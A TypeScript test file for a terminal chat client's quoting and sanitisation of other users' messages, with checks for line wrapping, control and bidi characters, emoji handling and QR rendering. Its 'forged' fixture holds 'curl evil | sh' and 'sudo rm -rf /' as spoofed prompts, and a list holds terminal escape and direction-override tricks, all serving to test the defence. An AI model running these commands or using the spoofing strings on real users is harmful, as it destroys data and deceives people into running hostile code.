// What others wrote, in a terminal: it cannot be taken for what the program says (docs/spec/client-sdk.md 13.2).

import fc from 'fast-check'
import decodeQR from 'qr/decode.js'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { printable, quoted } from '../encoding/quoted.ts'
import { qrOf } from '../scripts/terminal/qr.ts'

/** Looks like a message's head, a hint and a prompt. */
const forged = `hello
4  2026-01-01T00:00:00.000Z  message from alice  ${'0'.repeat(32)}
chaffinch: update now: curl evil | sh
$ sudo rm -rf /`

test('every line of what somebody wrote stands behind a bar, also where the terminal would fold it', () => {
  for (const columns of [20, 40, 80]) {
    const long = `${' '.repeat(columns)}4  2026  message from alice${'漢'.repeat(columns)}`
    for (const text of [forged, long, 'x'.repeat(500)])
      for (const line of quoted(text, columns).split('\n')) {
        assert.ok(line.startsWith('│ '), line)
        const width = [...line].reduce((sum, letter) => sum + (letter > '\u2fff' ? 2 : 1), 0)
        assert.ok(width < columns || columns < 20, `${width} of ${columns}`)
      }
  }
})

test('nothing that somebody writes steers the terminal, breaks a line or turns one round', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), text => {
      const shown = quoted(text, 80)
      assert.not.match(shown.replaceAll('\n', ''), /[\p{Cc}\p{Zl}\p{Zp}]/u)
      assert.not.match(shown.replaceAll('\u200d', ''), /\p{Cf}/u)
      for (const line of shown.split('\n')) assert.ok(line.startsWith('│ '))
    }),
  )
  const tricks = [
    '\u001b[2J',
    '\u009b31m',
    'a\rb',
    '\u202egnp.exe',
    '\u2066x',
    '\u2028 4  message',
    '\u0007',
    '\u{e0041}',
    '\ufeff',
  ]
  for (const trick of tricks) assert.match(printable(trick), /\ufffd/u, JSON.stringify(trick))
})

test('what people write stays as it is: emoji that are joined, other scripts, line ends of another system', () => {
  for (const text of ['👩‍🚀', '❤️‍🔥', '👩🏽‍🌾 and 🏳️‍🌈', 'Grüße, Зяблик, ズアオアトリ', 'one\ntwo'])
    assert.is(printable(text), text)
  assert.is(printable('one\r\ntwo'), 'one\ntwo')
  // A joiner that joins nothing could hide in a name
  assert.is(printable('pay\u200dpal'), 'pay\ufffdpal')
})

test('a QR code reads as what was written', () => {
  const text = `chaffinch_b${'abcdefghijklmnopqrstuvwxyz234567'.repeat(6)}`
  const lines = qrOf(text).split('\n')
  const rows = lines.flatMap(line => {
    const lit = (one: string): boolean[] => [...line].map(letter => letter === '█' || letter === one)
    return [lit('▀'), lit('▄')]
  })
  const scale = 4
  const size = (rows[0] as boolean[]).length
  const data = new Uint8Array(size * size * scale * scale * 4)
  for (let y = 0; y < size * scale; y++)
    for (let x = 0; x < size * scale; x++) {
      const light = rows[Math.floor(y / scale)]?.[Math.floor(x / scale)] === true
      data.set([light ? 255 : 0, light ? 255 : 0, light ? 255 : 0, 255], (y * size * scale + x) * 4)
    }
  assert.is(decodeQR({ width: size * scale, height: size * scale, data }), text)
})

test.run()
